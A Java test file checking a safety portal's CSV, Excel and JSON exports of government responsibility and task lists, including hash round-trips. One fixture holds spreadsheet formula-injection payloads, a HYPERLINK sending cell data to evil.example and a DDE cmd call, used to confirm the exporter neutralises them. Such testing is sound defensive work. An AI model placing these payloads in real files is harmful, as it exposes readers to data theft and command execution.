package org.safetyportal.content.exports;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.micronaut.context.ApplicationContext;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.safetyportal.content.account.AccountService;
import org.safetyportal.content.account.Actor;
import org.safetyportal.content.account.NewAccount;
import org.safetyportal.content.account.RoleGrant;
import org.safetyportal.content.ledger.CanonicalJson;
import org.safetyportal.content.ledger.PublicationLedger;
import org.safetyportal.content.ledger.Sha256;
import org.safetyportal.content.lists.ChangeReason;
import org.safetyportal.content.lists.DemoLists;
import org.safetyportal.content.lists.ItemFilter;
import org.safetyportal.content.lists.ListCatalogue;
import org.safetyportal.content.lists.ListItem;
import org.safetyportal.content.lists.ListPublishing;
import org.safetyportal.content.lists.ListType;
import org.safetyportal.content.lists.ListVersion;
import org.safetyportal.content.lists.ListVersionApproval;
import org.safetyportal.content.lists.TaskStatus;
import org.safetyportal.content.organization.OrganizationDirectory;
import org.safetyportal.content.organization.ReferenceDataLoader;
import org.safetyportal.content.testing.ModuleContext;
import org.safetyportal.content.testing.MutableClock;
import org.safetyportal.content.testing.OnEveryTestDatabase;
import org.safetyportal.content.testing.TestDatabase;
import org.safetyportal.i18n.SupportedLocales;

class ListExportsTest {

    /** The demonstration lists, published, and a publisher and a reviewer of the city's emergency bureau. */
    private record World(TestDatabase database, ApplicationContext context, int emergency) implements AutoCloseable {

        static World start(String kind) {
            TestDatabase database = TestDatabase.create(kind);
            try {
                ApplicationContext context = ModuleContext.start(database, new MutableClock(Instant.parse("2026-03-05T02:00:00Z")));
                context.getBean(ReferenceDataLoader.class).load();
                AccountService accounts = context.getBean(AccountService.class);
                accounts.ensureFirstAdministrator("administrator-pw");
                Actor admin = accounts.actor("admin");
                int emergency = context.getBean(OrganizationDirectory.class).department("EMERGENCY", "JC").orElseThrow().id();
                accounts.createAccount(admin, new NewAccount("publisher", "P", "password-123", List.of(RoleGrant.inDepartment("PUBLISHER", emergency))));
                accounts.createAccount(admin, new NewAccount("reviewer", "R", "password-123", List.of(RoleGrant.inDepartment("REVIEWER", emergency))));
                context.getBean(DemoLists.class).publishIfNoListsExist();
                return new World(database, context, emergency);
            } catch (RuntimeException e) {
                database.close();
                throw e;
            }
        }

        ListCatalogue catalogue() {
            return context.getBean(ListCatalogue.class);
        }

        ListExports exports() {
            return context.getBean(ListExports.class);
        }

        ListVersion current(ListType type) {
            return catalogue().current(emergency, type, type.isAnnual() ? 2026 : 0).orElseThrow();
        }

        /** The next version of the bureau's responsibility list, with these items. */
        ListVersion publishResponsibilities(List<ListItem> items) {
            ListPublishing publishing = context.getBean(ListPublishing.class);
            AccountService accounts = context.getBean(AccountService.class);
            ListVersion draft = publishing.startDraft(accounts.actor("publisher"), emergency, ListType.RESPONSIBILITY, 0);
            publishing.saveItems(accounts.actor("publisher"), draft.id(), items);
            publishing.submit(accounts.actor("publisher"), draft.id());
            return publishing.approve(accounts.actor("reviewer"), draft.id(),
                    new ListVersionApproval(LocalDate.of(2026, 3, 1), ChangeReason.CORRECTION, null));
        }

        @Override
        public void close() {
            context.close();
            database.close();
        }
    }

    /** Commas, quotes, line breaks, an empty text beside missing ones, Chinese and an emoji. */
    private static final ListItem AWKWARD = new ListItem("ZR-YJ-009", "危险化学品、烟花爆竹, \"两重点一重大\" 🔥", null,
            "《安全生产法》第十条\r\n《危险化学品安全管理条例》第六条", "市应急管理局", "", "未履行职责的，\n依法追责", null,
            List.of("HAZARDOUS_CHEMICALS", "FIRE"), null, null, null, null, null);

    private static final String BOM = "\uFEFF";

    @Test
    void theDataDictionaryNamesEveryItemFieldInTheOrderItIsExported() {
        ListItem blank = new ListItem("c", "t", null, null, null, null, null, null, List.of(), null, null, null, null, null);
        assertEquals(List.copyOf(blank.fields().keySet()), DataDictionary.itemFieldNames());
        assertEquals(List.of("code", "title", "powerType", "legalBasis", "responsibleBody", "stages", "accountability",
                        "supervisionPhone", "sectors"),
                DataDictionary.itemFields(ListType.POWER).stream().map(DataDictionary.Field::name).toList());
    }

    @OnEveryTestDatabase
    void everyPublishedVersion_asCsv_readsBackAsItsItems_andHashesAsTheLedgerRecorded(String kind) {
        try (World world = World.start(kind)) {
            List<ListVersion> versions = world.catalogue().current();
            assertTrue(versions.size() >= 5, "demo versions: " + versions.size());
            for (ListVersion version : versions) {
                byte[] csv = world.exports().export(version, ExportFormat.CSV, SupportedLocales.CHINESE).bytes();

                assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "UTF-8 byte order mark");
                List<List<String>> records = CsvReader.read(new String(csv, StandardCharsets.UTF_8).substring(BOM.length()));
                assertEquals(DataDictionary.itemFieldNames(), HeadingRow.fieldNames(records.get(0)));
                assertEquals(cells(world.catalogue().items(version)), records.subList(1, records.size()), version.ledgerSubject());
                assertEquals(version.contentHash(), hashOf(world, version, records), "the CSV holds every item losslessly");
            }
        }
    }

    @OnEveryTestDatabase
    void csvQuotesCommasQuotesAndLineBreaks_andKeepsAnEmptyTextApartFromNone(String kind) {
        try (World world = World.start(kind)) {
            ListVersion version = world.publishResponsibilities(List.of(AWKWARD));
            String csv = new String(world.exports().export(version, ExportFormat.CSV, SupportedLocales.CHINESE).bytes(), StandardCharsets.UTF_8);

            assertTrue(csv.contains(",\"危险化学品、烟花爆竹, \"\"两重点一重大\"\" 🔥\","), csv);
            assertTrue(csv.contains(",市应急管理局,\"\",\""), "empty stages are a quoted empty field: " + csv);
            assertTrue(csv.contains(",,FIRE;HAZARDOUS_CHEMICALS,,"), "no phone, then sectors joined by ';': " + csv);
            List<List<String>> records = CsvReader.read(csv.substring(BOM.length()));
            assertEquals(cells(List.of(AWKWARD)), records.subList(1, records.size()));
            assertEquals(version.contentHash(), hashOf(world, version, records));
        }
    }

    /** A title a spreadsheet would run as a formula, and fields beginning with the other triggers. */
    private static final ListItem FORMULA = new ListItem("ZR-YJ-010", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", null,
            "@SUM(1+1)*cmd|' /C calc'!A0", "+市应急管理局", "-1+1", "'引号开头", null,
            List.of("HAZARDOUS_CHEMICALS"), null, null, null, null, null);

    @OnEveryTestDatabase
    void csvNeutralisesFormulas_andTheHashRebuiltFromTheFileStillMatches(String kind) {
        try (World world = World.start(kind)) {
            ListVersion version = world.publishResponsibilities(List.of(FORMULA));
            String csv = new String(world.exports().export(version, ExportFormat.CSV, SupportedLocales.CHINESE).bytes(), StandardCharsets.UTF_8);

            List<List<String>> records = CsvReader.read(csv.substring(BOM.length()));
            List<String> row = records.get(1);
            for (String field : List.of("title", "legalBasis", "responsibleBody", "stages", "accountability")) {
                assertTrue(row.get(HeadingRow.fieldNames(records.get(0)).indexOf(field)).startsWith("'"), field + ": " + row);
            }
            assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", row.get(HeadingRow.fieldNames(records.get(0)).indexOf("title")));
            assertEquals(version.contentHash(), hashOf(world, version, withoutAddedQuotes(records)),
                    "removing the one added quote gives back the published content");

            ItemSetExport items = world.context.getBean(ItemSetExports.class).export(
                    ItemFilter.parse(Map.of("listType", "RESPONSIBILITY", "sector", "HAZARDOUS_CHEMICALS")), ExportFormat.CSV,
                    SupportedLocales.CHINESE);
            String itemCsv = new String(items.bytes(), StandardCharsets.UTF_8);
            assertTrue(itemCsv.contains("\"'=HYPERLINK("), itemCsv);
            assertTrue(!itemCsv.contains(",\"=HYPERLINK(") && !itemCsv.contains(",=HYPERLINK("), itemCsv);
        }
    }

    /** The rule the data dictionary gives for reading a CSV back: one leading quote was added, remove it. */
    private static List<List<String>> withoutAddedQuotes(List<List<String>> records) {
        List<List<String>> read = new ArrayList<>();
        read.add(records.get(0));
        for (List<String> record : records.subList(1, records.size())) {
            read.add(record.stream().map(cell -> cell != null && cell.startsWith("'") ? cell.substring(1) : cell).toList());
        }
        return read;
    }

    @OnEveryTestDatabase
    void excelWorkbook_readsBackAsTheItems_andItsAboutSheetNamesTheLedgerEntry(String kind) throws IOException {
        try (World world = World.start(kind)) {
            ListVersion version = world.publishResponsibilities(List.of(AWKWARD, world.catalogue().items(
                    world.current(ListType.RESPONSIBILITY)).get(0)));
            ListExport export = world.exports().export(version, ExportFormat.XLSX, SupportedLocales.CHINESE);

            try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export.bytes()))) {
                assertEquals(List.of("items", "about"), List.of(workbook.getSheetName(0), workbook.getSheetName(1)));
                assertEquals("名称 (title)", workbook.getSheet("items").getRow(0).getCell(1).getStringCellValue());
                List<List<String>> rows = rows(workbook.getSheet("items"), DataDictionary.itemFieldNames().size());
                assertEquals(DataDictionary.itemFieldNames(), HeadingRow.fieldNames(rows.get(0)));
                assertEquals(cells(world.catalogue().items(version)), rows.subList(1, rows.size()));

                Map<String, String> about = about(workbook.getSheet("about"));
                assertEquals(DataDictionary.versionFields().stream().map(DataDictionary.Field::name).toList(), List.copyOf(about.keySet()));
                assertEquals("JC-EMERGENCY", about.get("department"));
                assertEquals("晋城市应急管理局", about.get("departmentName"));
                assertEquals("RESPONSIBILITY", about.get("listType"));
                assertEquals("2", about.get("versionNo"));
                assertEquals("2", rawValue(workbook.getSheet("about"), "versionNo"), "an integer, not 2.0");
                assertEquals(null, about.get("year"), "a list that is not annual has no year");
                assertEquals("2026-03-01", about.get("effectiveDate"));
                assertEquals("CORRECTION", about.get("changeReason"));
                assertEquals(version.publishedAt().toString(), about.get("publishedAt"));
                assertEquals(version.ledgerSubject(), about.get("ledgerSubject"));
                assertEquals(version.contentHash(), about.get("contentHash"));
                assertEquals(version.contentHash(), world.context().getBean(PublicationLedger.class)
                        .entriesFor(about.get("ledgerSubject")).get(0).contentHash());
            }
        }
    }

    @OnEveryTestDatabase
    void json_carriesTheContentExactlyAsTheLedgerHashedIt(String kind) {
        try (World world = World.start(kind)) {
            ListVersion version = world.publishResponsibilities(List.of(AWKWARD));
            String json = new String(world.exports().export(version, ExportFormat.JSON, SupportedLocales.CHINESE).bytes(), StandardCharsets.UTF_8);

            String prefix = "{\"content\":";
            String afterContent = ",\"contentHash\":\"" + version.contentHash() + "\"";
            assertTrue(json.startsWith(prefix) && json.contains(afterContent), json);
            String content = json.substring(prefix.length(), json.indexOf(afterContent));
            assertEquals(version.contentHash(), Sha256.of(content), "anyone can recompute the hash from the file");
            assertEquals(CanonicalJson.write(world.catalogue().publishedContent(version)), content);
            assertTrue(content.contains("\"title\":\"危险化学品、烟花爆竹, \\\"两重点一重大\\\" 🔥\""), content);
            assertTrue(json.contains("\"ledgerSubject\":\"" + version.ledgerSubject() + "\""), json);
            assertTrue(json.matches(".*\"departmentName\":\\{\"en\":\"[^\"]+\",\"zh\":\"晋城市应急管理局\"}.*"), json);
            assertTrue(json.endsWith(",\"publishedAt\":\"" + version.publishedAt() + "\"}"), json);
        }
    }

    @OnEveryTestDatabase
    void fileNamesAreAsciiAndSayWhichVersion_theCsvNameAlsoItsLedgerSubjectAndHash(String kind) {
        try (World world = World.start(kind)) {
            ListVersion responsibilities = world.current(ListType.RESPONSIBILITY);
            ListVersion tasks = world.current(ListType.ANNUAL_TASKS);

            assertEquals("JC-EMERGENCY_RESPONSIBILITY_v1.xlsx", world.exports().export(responsibilities, ExportFormat.XLSX, SupportedLocales.CHINESE).fileName());
            assertEquals("JC-EMERGENCY_ANNUAL_TASKS_2026_v1.json", world.exports().export(tasks, ExportFormat.JSON, SupportedLocales.CHINESE).fileName());
            assertEquals("JC-EMERGENCY_RESPONSIBILITY_v1_list-version-" + responsibilities.id() + "_content-sha256-"
                            + responsibilities.contentHash() + ".csv",
                    world.exports().export(responsibilities, ExportFormat.CSV, SupportedLocales.CHINESE).fileName());
        }
    }

    /**
     * An English reader's file of annual tasks: headings in English, and after each task's fields its
     * standing on the file's day, OVERDUE once a deadline passed uncompleted whatever was published.
     */
    @OnEveryTestDatabase
    void anItemSetInEnglish_isHeadedInEnglish_andSaysWhichTasksAreOverdueOnItsDay(String kind) {
        try (World world = World.start(kind)) {
            List<ListItem> tasks = world.catalogue().items(world.current(ListType.ANNUAL_TASKS));
            ListItem open = tasks.stream().filter(t -> t.taskStatus() != TaskStatus.COMPLETED && t.deadline() != null)
                    .findFirst().orElseThrow(() -> new AssertionError("the demo tasks include an open one with a deadline"));
            MutableClock clock = (MutableClock) world.context().getBean(Clock.class);
            clock.advance(Duration.between(Instant.parse("2026-03-05T02:00:00Z"),
                    open.deadline().plusDays(2).atStartOfDay(ZoneOffset.UTC).toInstant()));

            ItemSetExport export = world.context().getBean(ItemSetExports.class).export(
                    ItemFilter.parse(Map.of("listType", "ANNUAL_TASKS", "department", "JC-EMERGENCY")), ExportFormat.CSV,
                    SupportedLocales.ENGLISH);

            List<List<String>> records = CsvReader.read(new String(export.bytes(), StandardCharsets.UTF_8).substring(BOM.length()));
            List<String> header = records.get(0);
            assertEquals("Department code (department)", header.get(0));
            assertEquals("Standing (as of the file) (taskStanding)", header.get(header.size() - 1));
            List<String> names = HeadingRow.fieldNames(header);
            List<String> row = records.stream().filter(r -> open.code().equals(r.get(names.indexOf("code")))).findFirst().orElseThrow();
            assertEquals(open.taskStatus().name(), row.get(names.indexOf("taskStatus")), "the status as published");
            assertEquals("OVERDUE", row.get(names.indexOf("taskStanding")), "its standing on the file's day");
        }
    }

    @OnEveryTestDatabase
    void aVersionThatIsNotPublishedIsNotExported(String kind) {
        try (World world = World.start(kind)) {
            AccountService accounts = world.context().getBean(AccountService.class);
            ListVersion draft = world.context().getBean(ListPublishing.class)
                    .startDraft(accounts.actor("publisher"), world.emergency(), ListType.RESPONSIBILITY, 0);

            assertTrue(world.catalogue().version(draft.id()).isEmpty());
            assertThrows(IllegalArgumentException.class, () -> world.exports().export(draft, ExportFormat.CSV, SupportedLocales.CHINESE));
        }
    }

    /** The items as the cells of the CSV or the items sheet should hold them. */
    private static List<List<String>> cells(List<ListItem> items) {
        List<List<String>> rows = new ArrayList<>();
        for (ListItem item : items) {
            rows.add(item.fields().values().stream().map(value -> value instanceof List<?> list
                    ? (list.isEmpty() ? null : String.join(";", list.stream().map(String::valueOf).sorted().toList()))
                    : (String) value).toList());
        }
        return rows;
    }

    /**
     * The SHA-256 of the version's canonical content rebuilt from the exported records, with the makers
     * (labels and seal) as the canonical JSON beside the export gives them.
     */
    private static String hashOf(World world, ListVersion version, List<List<String>> records) {
        Map<String, Object> published = world.catalogue().publishedContent(version);
        List<String> names = HeadingRow.fieldNames(records.get(0));
        List<Map<String, Object>> items = new ArrayList<>();
        for (List<String> record : records.subList(1, records.size())) {
            Map<String, Object> item = new LinkedHashMap<>();
            for (int i = 0; i < names.size(); i++) {
                String cell = record.get(i);
                item.put(names.get(i), names.get(i).equals("sectors")
                        ? (cell == null ? List.of() : List.of(cell.split(";"))) : cell);
            }
            items.add(item);
        }
        Map<String, Object> content = new LinkedHashMap<>();
        content.put("department", version.department().code());
        content.put("listType", version.type().name());
        content.put("year", version.year());
        content.put("versionNo", version.versionNo());
        content.put("effectiveDate", version.effectiveDate().toString());
        content.put("changeReason", version.changeReason().name());
        content.put("items", items);
        content.put("basedOn", version.basedOnId() == null ? null : "list-version:" + version.basedOnId());
        for (String maker : List.of("draftedBy", "submittedBy", "publishedBy", "makersSeal")) {
            content.put(maker, published.get(maker));
        }
        return Sha256.of(CanonicalJson.write(content));
    }

    private static List<List<String>> rows(Sheet sheet, int columns) {
        List<List<String>> rows = new ArrayList<>();
        for (int r = 0; r <= sheet.getLastRowNum(); r++) {
            Row row = sheet.getRow(r);
            List<String> values = new ArrayList<>();
            for (int c = 0; c < columns; c++) {
                Cell cell = row.getCell(c);
                values.add(cell == null ? null : cell.getStringCellValue());
            }
            rows.add(values);
        }
        return rows;
    }

    /** The value of an about row exactly as the file's XML holds it, as a reader of the XML sees it. */
    private static String rawValue(Sheet sheet, String name) {
        for (Row row : sheet) {
            if (HeadingRow.fieldName(row.getCell(0).getStringCellValue()).equals(name)) {
                return ((org.apache.poi.xssf.usermodel.XSSFCell) row.getCell(1)).getCTCell().getV();
            }
        }
        return null;
    }

    private static Map<String, String> about(Sheet sheet) {
        DataFormatter formatter = new DataFormatter();
        Map<String, String> about = new LinkedHashMap<>();
        for (Row row : sheet) {
            about.put(HeadingRow.fieldName(row.getCell(0).getStringCellValue()), row.getCell(1) == null ? null : formatter.formatCellValue(row.getCell(1)));
        }
        return about;
    }
}
